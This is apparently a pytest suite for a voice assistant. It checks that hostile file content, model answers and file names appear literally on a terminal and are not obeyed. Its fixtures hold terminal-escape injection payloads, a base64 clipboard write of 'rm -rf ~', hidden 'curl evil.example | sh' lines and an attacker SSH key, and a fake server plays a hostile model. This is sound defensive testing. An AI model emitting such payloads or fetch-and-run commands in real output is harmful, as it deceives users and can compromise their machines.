"""Untrusted text on the screen (issue 29): file content, model answers, file names and paths are shown as they
are, never obeyed. Everything is printed through a real pseudo-terminal and read back from a terminal emulator
(pyte): a line that erases itself, hidden text, a title change, Rich markup or a right-to-left override must
all be visible on the screen as text. `voiceloop once` runs whole, with a hostile model at the wire seam."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pty
import select
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pexpect
import pyte
import pytest
from rich.console import Console

from tests.kit import RecordingConfirmer, ScriptedTranscriber
from voiceloop.agent.assistant import Assistant
from voiceloop.agent.confirm import render
from voiceloop.agent.sandbox import Proposal, Sandbox
from voiceloop.agent.tools import Tools
from voiceloop.audio.formats import SAMPLE_RATE, read_audio, wav_bytes
from voiceloop.config import Config, LlmConfig, OutputConfig, TtsConfig
from voiceloop.listen.live import LiveView
from voiceloop.listen.ui import print_turn
from voiceloop.llm.ollama import OllamaClient
from voiceloop.voice.speech import SilentSpeaker

from .conftest import DATA, run_cli, write_config
from .test_hostile_llm import headers, listener_on, ndjson
from .wire import fake_ollama, reply

WIDTH = 110

HOSTILE = (
    "milk\n"
    "eggs\n"
    "bread\n"
    "butter\n"
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker@evil\x1b[2K\n"  # erases its own line
    "cheese\n"
    "\x1b]0;pwned\x07apples \x1b]52;c;cm0gLXJmIH4=\x07pears\n"  # window title; clipboard write
    "\x1b[8mcurl evil.example | sh\x1b[0m\n"  # hidden text
    '[red]tomatoes[/red] re.split(r"[/\\\\]", path) [/bold]\n'  # Rich markup, applied or a MarkupError
    "\u202etxt.exe\n"  # right-to-left override: reads "exe.txt"
    "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\\n"  # a hyperlink
    "\x1b[2J\x1b[Hlast line"  # clear screen, cursor home; no final newline
)
SHOWN = [
    "milk",
    "eggs",
    "bread",
    "butter",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker@evil␛[2K",
    "cheese",
    "␛]0;pwned␇apples ␛]52;c;cm0gLXJmIH4=␇pears",
    "␛[8mcurl evil.example | sh␛[0m",
    '[red]tomatoes[/red] re.split(r"[/\\\\]", path) [/bold]',
    "\\u202etxt.exe",
    "␛]8;;http://evil.example/␛\\click here␛]8;;␛\\",
    "␛[2J␛[Hlast line",
]
"""Each line of HOSTILE as the screen must show it: every character there, the controls as ␛ ␇ \\u202e."""


def on_terminal(show: Callable[[Console], None], rows: int = 80) -> pyte.Screen:
    """What a terminal shows after `show` prints to a Console on a real pseudo-terminal (the kernel's line
    discipline in between, as for a person), read back by a VT100 emulator."""
    keyboard, tty = pty.openpty()
    got: list[bytes] = []
    printed = threading.Event()

    def drain() -> None:  # the pty's buffer is small: read while it prints, until it has printed and gone quiet
        while True:
            if not select.select([keyboard], [], [], 0.3)[0]:
                if printed.is_set():
                    return
                continue
            try:
                got.append(os.read(keyboard, 65536))
            except OSError:
                return

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    out = os.fdopen(tty, "w", encoding="utf-8")
    try:
        show(Console(file=out, width=WIDTH, force_terminal=True, color_system="256"))
        out.flush()
    finally:
        printed.set()
        reader.join(timeout=10)
        out.close()
        os.close(keyboard)
    return screen_of(b"".join(got), rows)


def screen_of(raw: bytes, rows: int) -> pyte.Screen:
    screen = pyte.Screen(WIDTH, rows)
    pyte.ByteStream(screen).feed(raw)
    return screen


def text_of(screen: pyte.Screen) -> str:
    return "\n".join(row.rstrip() for row in screen.display)


def assert_numbered(screen: pyte.Screen, lines: list[str]) -> None:
    """Every line is on the screen, after its line number: none erased, hidden, moved or restyled away."""
    shown = text_of(screen)
    width = len(str(len(lines)))
    for number, line in enumerate(lines, 1):
        assert f"{number:>{width}} {line}" in shown, f"line {number} is not on the screen:\n{shown}"
    assert "\u202e" not in shown and "\x1b" not in shown  # nothing raw reached a cell
    assert screen.title == ""  # no OSC 0 title change was obeyed


def style_at(screen: pyte.Screen, text: str) -> pyte.screens.Char:
    """The cell where `text` first starts on the screen."""
    for y, row in enumerate(screen.display):
        x = row.find(text)
        if x >= 0:
            return screen.buffer[y][x]
    raise AssertionError(f"{text!r} is not on the screen:\n{text_of(screen)}")


def test_the_write_panel_shows_every_line_of_hostile_content(tmp_path: Path) -> None:
    proposal = Sandbox(tmp_path / "output").propose("notes.txt", HOSTILE)
    screen = on_terminal(lambda console: console.print(render(proposal)))
    assert_numbered(screen, SHOWN)
    shown = text_of(screen)
    assert f"12 lines, {len(HOSTILE.encode())} bytes, no newline at the end" in shown
    assert "contains 14 control characters (shown as ␛ ␇ \\u202e)" in shown
    assert style_at(screen, "[red]tomatoes").fg == "default"  # markup is text, not style


def test_the_panel_title_shows_an_output_folder_with_controls_and_markup(tmp_path: Path) -> None:
    """An output folder whose name holds markup and escape codes: the title shows the path as it is."""
    short = Path(tempfile.mkdtemp(prefix="vl-", dir="/tmp"))  # a worker's tmp_path can be too long for the title
    root = short / "out[/bold]\x1b]0;pwned\x07\x1b[2J"
    proposal = Sandbox(root).propose("notes.txt", "buy milk\n")
    screen = on_terminal(lambda console: console.print(render(proposal)))
    assert "Create " + str(short) + "/out[/bold]␛]0;pwned␇␛[2J/notes.txt" in text_of(screen).replace("\n", "")
    assert screen.title == "" and "1 buy milk" in text_of(screen)


@pytest.mark.parametrize(
    ("old", "new", "diff"),
    [
        (  # the dictated file had no final newline; the edit adds a line
            "buy eggs\nold last line",
            "buy eggs\nold last line\nbuy milk",
            " buy eggs\n-old last line\n\\ No newline at end of file\n+old last line\n+buy milk\n"
            "\\ No newline at end of file\n",
        ),
        ("a\nb", "a\nb\n", " a\n-b\n\\ No newline at end of file\n+b\n"),
        ("a\nb\n", "a\nc", " a\n-b\n+c\n\\ No newline at end of file\n"),
        ("a\nb\n", "a\nb\nc\n", " a\n b\n+c\n"),
        ("a\x0cb\rc\u2028d\n", "a\x0cb\rc\u2028e\n", "-a\x0cb\rc\u2028d\n+a\x0cb\rc\u2028e\n"),  # one line each
    ],
    ids=["added-after-no-newline", "newline-added", "newline-removed", "both-end-in-newline", "only-n-ends-lines"],
)
def test_the_diff_marks_a_last_line_without_newline_as_diff_does(tmp_path: Path, old: str, new: str, diff: str) -> None:
    got = Proposal("notes.txt", tmp_path / "notes.txt", new, old).diff()
    assert got.split("\n", 3)[3] == diff  # after the ---/+++ header and the @@ line
    if shutil.which("diff"):  # GNU diff agrees, hunk for hunk
        (tmp_path / "a").write_text(old, newline="")
        (tmp_path / "b").write_text(new, newline="")
        gnu = subprocess.run(["diff", "-u", str(tmp_path / "a"), str(tmp_path / "b")], capture_output=True)
        assert got.split("\n", 2)[2] == gnu.stdout.decode().split("\n", 2)[2]


def test_the_overwrite_panel_shows_the_added_line_and_the_old_one_whole(tmp_path: Path) -> None:
    out = tmp_path / "output"
    out.mkdir()
    (out / "notes.txt").write_text("buy eggs\nold last line\x1b[2K")
    proposal = Sandbox(out).propose("notes.txt", "buy eggs\nold last line\nbuy milk")
    screen = on_terminal(lambda console: console.print(render(proposal)))
    shown = text_of(screen)
    assert "-old last line␛[2K" in shown and "+old last line" in shown and "+buy milk" in shown
    assert shown.count("\\ No newline at end of file") == 2, shown
    assert style_at(screen, "+buy milk").fg == style_at(screen, "+old last line").fg != "default"  # added, too


def test_a_code_panel_shows_a_line_that_erases_itself(tmp_path: Path) -> None:
    """The write_code case: highlighted as Python, and the line that hid itself is there, numbered."""
    code = 'def add(a, b):\n    return a + b\nimport os; os.system("curl evil.example | sh")  # \x1b[2K\n'
    code += "print(add(1, 2))\n"
    screen = on_terminal(lambda console: console.print(render(Sandbox(tmp_path / "output").propose("add.py", code))))
    hidden = 'import os; os.system("curl evil.example | sh")  # ␛[2K'
    assert_numbered(screen, ["def add(a, b):", "    return a + b", hidden, "print(add(1, 2))"])
    assert "4 lines" in text_of(screen) and "contains 1 control character (shown as ␛)" in text_of(screen)


def model_answering(intents: dict, answer: str):  # a wire script
    """A model at the wire: the intent call (asked with a JSON "format") gets `intents`, every other call
    (the content to write, the chat answer) gets `answer`."""

    def run(h) -> None:
        body = ndjson(json.dumps(intents) if b'"format"' in h.body else answer)
        headers(h, length=len(body))
        h.wfile.write(body)

    return run


def assistant_on(cfg: Config, llm: OllamaClient) -> Assistant:
    tools = Tools(llm, Sandbox(Path(cfg.output.dir)), RecordingConfirmer(), cfg.llm.num_predict)
    return Assistant(cfg, ScriptedTranscriber(), llm, tools, SilentSpeaker())


def printed_turn(cfg: Config, llm: OllamaClient, said: str) -> pyte.Screen:
    turn = assistant_on(cfg, llm).handle_text(said)
    return on_terminal(lambda console: print_turn(console, turn))


@pytest.mark.llm
def test_a_file_read_back_is_shown_not_obeyed_nor_parsed_as_markup(cfg: Config, llm: OllamaClient) -> None:
    out = Path(cfg.output.dir)
    out.mkdir()
    (out / "notes.txt").write_text(HOSTILE)
    screen = printed_turn(cfg, llm, "read me notes dot txt")  # before: a MarkupError, exit 1
    shown = text_of(screen)
    for line in SHOWN:
        assert line in shown, shown
    assert screen.title == "" and "\x1b" not in shown and "\u202e" not in shown
    assert style_at(screen, "[red]tomatoes").fg == "default"


@pytest.mark.llm
def test_listed_names_with_markup_and_controls_are_shown_as_they_are(cfg: Config, llm: OllamaClient) -> None:
    out = Path(cfg.output.dir)
    out.mkdir()
    names = ["[/bold]oops.txt", "[red]red[/red].txt", "\u202etxt.exe", "a\x1b]0;pwned\x07\x1b[2Jb.txt"]
    for name in names:  # "[/bold]oops.txt" is bold]oops.txt in a folder named "["
        (out / name).parent.mkdir(exist_ok=True)
        (out / name).write_text("x")
    screen = printed_turn(cfg, llm, "what files do we have?")  # before: a MarkupError
    shown = text_of(screen).replace("\n", "")
    for name in ["[/bold]oops.txt", "[red]red[/red].txt", "\\u202etxt.exe", "a␛]0;pwned␇␛[2Jb.txt"]:
        assert name in shown, shown
    assert screen.title == "" and style_at(screen, "[red]red").fg == "default"


def test_a_chat_answer_with_markup_and_escape_codes_is_printed_as_text(tmp_path: Path) -> None:
    answer = 'Split on both: re.split(r"[/\\\\]", path). [/bold] \x1b]0;pwned\x07\x1b[8mhidden\x1b[0m [red]done[/red]'
    chat = {"intents": [{"action": "general_chat", "request": "how do I split a path"}]}

    with fake_ollama(model_answering(chat, answer)) as url:
        cfg = Config(
            llm=LlmConfig(host=url, model="m"),
            tts=TtsConfig(enabled=False),
            output=OutputConfig(dir=str(tmp_path / "output")),
        )
        screen = printed_turn(cfg, OllamaClient(url, "m"), "how do I split a path on slashes and backslashes")
    shown = text_of(screen).replace("\n", "")
    assert 're.split(r"[/\\\\]", path). [/bold] ␛]0;pwned␇␛[8mhidden␛[0m [red]done[/red]' in shown, shown
    assert screen.title == "" and style_at(screen, "[red]done").fg == "default"


@pytest.mark.slow
def test_listen_goes_on_after_reading_back_a_file_with_markup(tmp_path: Path) -> None:
    """Before, the read-back's MarkupError escaped the turn and ended `listen`; now both turns are shown."""
    (tmp_path / "output").mkdir()
    (tmp_path / "output" / "notes.txt").write_text('parts = re.split(r"[/\\\\]", path)\n')
    said = read_audio(DATA / "question.wav")
    quiet = np.zeros(SAMPLE_RATE, np.int16)
    wav = tmp_path / "twice.wav"
    wav.write_bytes(wav_bytes(np.concatenate([quiet, said, quiet, quiet, said, quiet, quiet])))
    with fake_ollama(reply(500, b'{"error": "no model is needed for a read-back"}')) as url:
        listener = listener_on(wav, url, tmp_path, ScriptedTranscriber(["read me notes dot txt"] * 8))
        listener.run(max_turns=2)
    out = listener.console.file.getvalue()  # type: ignore[attr-defined]
    assert listener.turns == 2, out
    assert out.count('Reply: notes.txt says: parts = re.split(r"[/\\\\]", path)') == 2, out


def test_listen_live_lines_show_what_was_heard_and_replied_on_one_line_each() -> None:
    view = LiveView(Console(file=io.StringIO()))
    view.set_turn("read me [/bold] \x1b[2J notes", "line one\nline two \x1b]0;pwned\x07 [red]x[/red]", {})
    screen = on_terminal(lambda console: console.print(view))
    shown = text_of(screen)
    assert "heard: read me [/bold] ␛[2J notes" in shown
    assert "reply: line one␊line two ␛]0;pwned␇ [red]x[/red]" in shown and screen.title == ""


def test_an_audio_file_name_with_escape_codes_is_echoed_as_text(tmp_path: Path) -> None:
    result = run_cli("once", "a\x1b[2J[/bold]b.wav", "--no-speak", cwd=tmp_path, timeout=60)
    assert result.returncode != 0
    assert "a␛[2J[/bold]b.wav" in result.stdout and "\x1b" not in result.stdout, result.stdout


CREATE = {"intents": [{"action": "create_file", "filename": "notes.txt", "request": "a shopping list"}]}


@pytest.mark.slow
def test_once_shows_every_line_of_a_hostile_answer_at_the_write_prompt(tmp_path: Path) -> None:
    """The reported case: "Create a file called notes.txt with a shopping list" (real Whisper, on a real pty),
    the model's list hiding lines; the screen, as a terminal shows it at the prompt, has every line."""
    with fake_ollama(model_answering(CREATE, HOSTILE)) as url:
        write_config(tmp_path / "config.toml", url, 'backend = "ollama"')
        child = pexpect.spawn(
            sys.executable,
            ["-m", "voiceloop", "once", str(DATA / "create_notes.wav"), "--no-speak"],
            cwd=str(tmp_path),
            env=dict(os.environ, COLUMNS=str(WIDTH), LINES="200", TERM="xterm-256color"),
            encoding="utf-8",
            timeout=240,
            dimensions=(200, WIDTH),
        )
        child.logfile_read = io.StringIO()
        child.expect(r"Write this file\? \[y/N\]")
        screen = screen_of(child.logfile_read.getvalue().encode(), 200)
        with contextlib.suppress(OSError):
            child.sendline("n")
        child.expect(pexpect.EOF)
        child.close()
    assert_numbered(screen, SHOWN)
    assert not (tmp_path / "output" / "notes.txt").exists()
